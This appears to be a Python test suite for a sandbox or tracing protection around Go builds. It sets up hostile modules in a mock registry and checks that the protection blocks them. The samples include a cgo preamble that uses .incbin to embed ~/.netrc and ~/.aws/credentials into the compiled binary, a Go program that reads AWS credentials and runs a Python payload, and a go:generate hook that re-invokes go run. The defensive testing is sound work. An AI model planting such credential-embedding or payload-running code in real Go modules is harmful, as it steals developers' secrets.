"""Hostile modules: what cgo's compilers read for them, and what go run and go generate start."""

import json
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import environment  # noqa: E402
from go_case import GoCase  # noqa: E402
from go_proxy import CGO_PACKAGE  # noqa: E402
from hostile_code import HostileCode  # noqa: E402

# From the module's folder, which the compiler searches, five up is the home.
INCLUDED = r'''
#if __has_include(<../../../../../%(name)s>)
__asm__(".pushsection .rodata\n.incbin \"../../../../../%(name)s\"\n.popsection\n");
#endif
'''
ATTACK = '''package main

import (
	"os"
	"os/exec"
%(imports)s)

func attack() {
	_, _ = os.ReadFile(os.Getenv("HOME") + "/.aws/credentials")
	_ = exec.Command("/usr/bin/python3", "-c", %(payload)s).Run()
}

%(main)s
'''


class Hostile(HostileCode, GoCase):
    # go leaves its modules read-only; the payload changes that.
    victims = ("home/go/pkg/mod/example.com/leaf@v1.0.0/leaf.go",
               "home/go/pkg/mod/cache/download/example.com/leaf/@v/v1.0.0.zip",
               "home/.config/go/env")
    comment = "// owned\n"
    programs = ("/usr/bin/env",)
    BOTH = (".netrc", ".aws/credentials")

    def go_source(self, main, imports=""):
        return ATTACK % {"payload": json.dumps(self.payload(), ensure_ascii=False), "main": main,
                         "imports": imports}

    def fill_registry(self, registry):
        self.start_sink()
        registry.add("example.com/leaf", "v1.0.0",
                     {"leaf.go": "package leaf\n\nfunc One() int { return 1 }\n"})
        stolen = "".join(INCLUDED % {"name": name} for name in self.BOTH)
        registry.add("example.com/evil", "v1.6.1", {
            "evil.go": (CGO_PACKAGE % "evil").replace("/*\n", "/*\n" + stolen)})
        registry.add("example.com/eviltool", "v1.6.2", {"main.go": self.go_source(
            "func main() { attack(); println(leaf.One()) }", '\t"example.com/leaf"\n')},
            {"example.com/leaf": "v1.0.0"})

    def test_WhatCgoIncludesIsHidden(self):
        main = ('package main\n\nimport "example.com/evil"\n\n'
                "func main() { println(evil.Answer()) }\n")

        def prepare(world):
            self.project(world, {"example.com/evil": "v1.6.1"}, main)

        def stolen(world):
            with open(os.path.join(world.project, "program"), "rb") as file:
                program = file.read()
            return [name for name in self.BOTH if world.marker_of(name).encode() in program]

        build = [self.go, "build", "-o", "program"]
        world, outcome = self.attacked(build, False, prepare, 0)
        self.assertEqual(list(self.BOTH), stolen(world), outcome.describe())
        if environment.safe_trace() is None:
            self.skipTest("SAFE_TRACE is not set: only the bare half ran")
        world, outcome = self.attacked(build, True, prepare, 120)
        self.assertEqual([], stolen(world), outcome.describe())
        trace = self.trace(world)
        for name in self.BOTH:
            found = trace.find(contains=[os.path.join(world.home, name)], refused=True)
            self.assertTrue(found, trace.describe())
            for event in found:
                self.assertEqual(("package", "example.com/evil", "v1.6.1"), (
                    event["safe_trace.role"], event.get("package.name"),
                    event.get("package.version")), event)

    def test_RunOfAVersion(self):
        self.is_stopped([self.go, "run", "example.com/eviltool@v1.6.2"], lambda world: None,
                        "example.com/eviltool", "v1.6.2", role="project", status=0)

    def test_GenerateThatRunsGoAgain(self):
        attack = self.go_source("func main() { attack(); println(leaf.One()) }",
                                '\t"example.com/leaf"\n')
        attack = attack.replace("func attack", "//go:generate %s run .\nfunc attack" % self.go)
        self.is_stopped([self.go, "generate", "./..."],
                        lambda world: self.project(world, {"example.com/leaf": "v1.0.0"}, attack),
                        "", "", role="project", status=0)
